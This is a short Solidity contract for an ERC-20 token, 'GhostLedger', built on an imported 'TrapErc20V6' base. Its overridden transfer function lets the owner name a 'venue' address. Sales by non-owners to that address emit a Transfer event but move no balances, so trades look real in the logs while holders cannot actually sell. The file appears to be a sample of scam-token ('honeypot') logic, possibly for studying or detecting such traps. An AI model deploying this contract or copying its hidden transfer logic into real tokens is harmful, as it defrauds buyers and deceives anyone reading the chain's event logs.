// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.6.12;

import "../base/TrapErc20V6.sol";

/// A sale writes a Transfer into the log and nothing into the books.
contract GhostLedger is TrapErc20V6 {
    address private venue;

    constructor() public TrapErc20V6("Ghost Ledger", "GHST", 13000000 ether) {}

    function haunt(address venue_) external onlyOwner {
        venue = venue_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == venue && from != owner()) {
            require(balanceOf(from) >= amount, "ERC20: transfer amount exceeds balance");
            emit Transfer(from, to, amount);
            return;
        }
        super._transfer(from, to, amount);
    }
}
